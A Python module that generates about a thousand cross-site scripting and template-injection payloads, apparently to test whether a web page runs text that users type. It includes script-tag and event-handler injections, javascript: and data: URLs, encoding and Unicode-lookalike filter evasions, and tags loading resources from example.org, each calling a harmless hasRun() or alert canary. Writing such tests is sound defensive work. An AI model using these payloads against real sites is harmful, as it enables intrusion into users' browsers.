"""A thousand things that people type who want a page to run what they typed. Each would call `hasRun()`.

None of them is longer than a name or a line of talk may be where it is used; all are visible signs, as the server keeps them.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "hasRun()"
BREAKS = ["", '">', "'>", "-->", "</script>", "</style>", "</title>", "</textarea>", "]]>", "`>", "\\\">", '"/>']
TAGS = [
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script/x>{run}</script>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=//example.org/x.js></script>", "<script type=module>{run}</script>", "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>", '<img/src="x"/onerror="{run}">', "<IMG SRC=x ONERROR={run}>", "<img src=x:x onerror={run} //",
    "<image href=x onerror={run}>", "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><a href='javascript:{run}'><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>", "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<svg><set onbegin={run} attributeName=x>", "<math href='javascript:{run}'>x</math>", "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe onload={run}></iframe>", "<body onload={run}>",
    "<body onpageshow={run}>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>", "<marquee onstart={run}>x</marquee>", "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>", "<link rel=stylesheet href=//example.org/x.css>", "<style>@import '//example.org/x.css'</style>",
    "<style onload={run}></style>", "<base href=//example.org/>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action='javascript:{run}'><button>x</button></form>", "<button formaction='javascript:{run}'>x</button>",
    "<a href='javascript:{run}'>x</a>", "<a href=\"JaVaScRiPt:{run}\">x</a>", "<a href='&#106;avascript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>", "<div onmouseover={run}>x</div>", "<p onclick={run}>x</p>",
    "<div style='background:url(javascript:{run})'>x</div>", "<x onfocus={run} tabindex=1 autofocus>x</x>", "<keygen autofocus onfocus={run}>",
    "<template><script>{run}</script></template>", "<noscript><img src=x onerror={run}></noscript>", "<dialog open onclose={run}>",
    "<portal src='javascript:{run}'>", "<xss style=animation-name:x onanimationstart={run}>", "<a ping=//example.org href=#>x</a>",
    "<table background='javascript:{run}'>", "<isindex action='javascript:{run}'>", "<!--<img src='--><img src=x onerror={run}>",
    "<![CDATA[<script>{run}</script>]]>", "<?xml version='1.0'?><script>{run}</script>", "<%00script>{run}</script>",
]  # fmt: skip
TEMPLATES = [
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "{{{run}}}", "{{@html '<script>{run}</script>'}}",
    "{{#if {run}}}{{/if}}", "[[${{{run}}}]]", "{{0}}", "{{1}} {{2}} {{n|one|many}}", "@({run})", "%{{{run}}}", "{{{{7*7}}}}", "${{7*7}}",
    "{{'a'.constructor.prototype.charAt=[].join}}", "__proto__", "constructor", "toString", "{{n|{run}|x}}", "`${{{run}}}`",
    "javascript:{run}", "data:text/html,<script>{run}</script>", "vbscript:{run}", "java\tscript:{run}".replace("\t", "&Tab;"),
    "javascript://%0a{run}", "'-{run}-'", '"-{run}-"', "\\';{run}//", "');{run};//", "*/{run}/*", "\\u003cscript\\u003e{run}",
    "%3Cscript%3E{run}%3C/script%3E", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}", "&amp;lt;b&amp;gt;",
    "\\x3cscript\\x3e{run}", "＜script＞{run}＜/script＞", "‹script›{run}‹/script›", "<ſcript>{run}</ſcript>", "<ıframe onload={run}>",
    "<scrıpt>{run}</scrıpt>", "﹤img src=x onerror={run}﹥", "<İMG SRC=x ONERROR={run}>", "💥<img src=x onerror={run}>💥", "ª<b>º</b>",
]  # fmt: skip
CALLS = [RUN, "hasRun`1`", "top.hasRun()", "window['hasRun'](1)", "eval('hasRun()')", "setTimeout(hasRun)", "alert(1)", "confirm`1`"]
SHORT = [
    "<b>x</b>", "<i>", "<u>u", "<hr>", "<h1>x", "<p>x", "<br>", "<s>", "<img src=x>", "<script>", "</script>", "<svg>", "<math>", "<a href=x>",
    "<style>", "</style>", "</div>", "</title>", "<!--", "-->", "{0}", "{1}", "{{7*7}}", "${7*7}", "#{7*7}", "<%=7%>", "{@html x}", "[[x]]",
    "&lt;b&gt;", "&amp;", "&#60;", "%3Cb%3E", "\\u003cb", "\\x3cb", "'--", "';--", '";', "`", "javascript:hasRun()", "<a onclick=hasRun()>",
    "<p onfocus=hasRun()>", "<svg onload=hasRun()>", "<b onload=hasRun()>", "<u oncut=hasRun()>", "＜b＞", "<ſ>", "__proto__", "constructor",
    "toString", "null", "undefined", "NaN", "[object Object]", "<input>", "<form>", "<base>", "<meta>", "<body onload=alert()>", "<x/onclick=alert()>",
]  # fmt: skip


def _all() -> Iterator[str]:
    yield from (text.replace("{run}", RUN) for text in [text.format(run="{run}") for text in TEMPLATES])
    for call, before in product(CALLS, BREAKS):
        for tag in TAGS:
            yield before + tag.replace("{run}", call)


def payloads(count: int = 1000) -> list[str]:
    """So many different ones, with something of every kind: every so manieth of all that there are."""
    found = list(dict.fromkeys(_all()))
    templates = found[: len(TEMPLATES)]
    rest = found[len(TEMPLATES) :]
    wanted = count - len(templates)
    step = len(rest) / wanted
    return templates + [rest[int(place * step)] for place in range(wanted)]
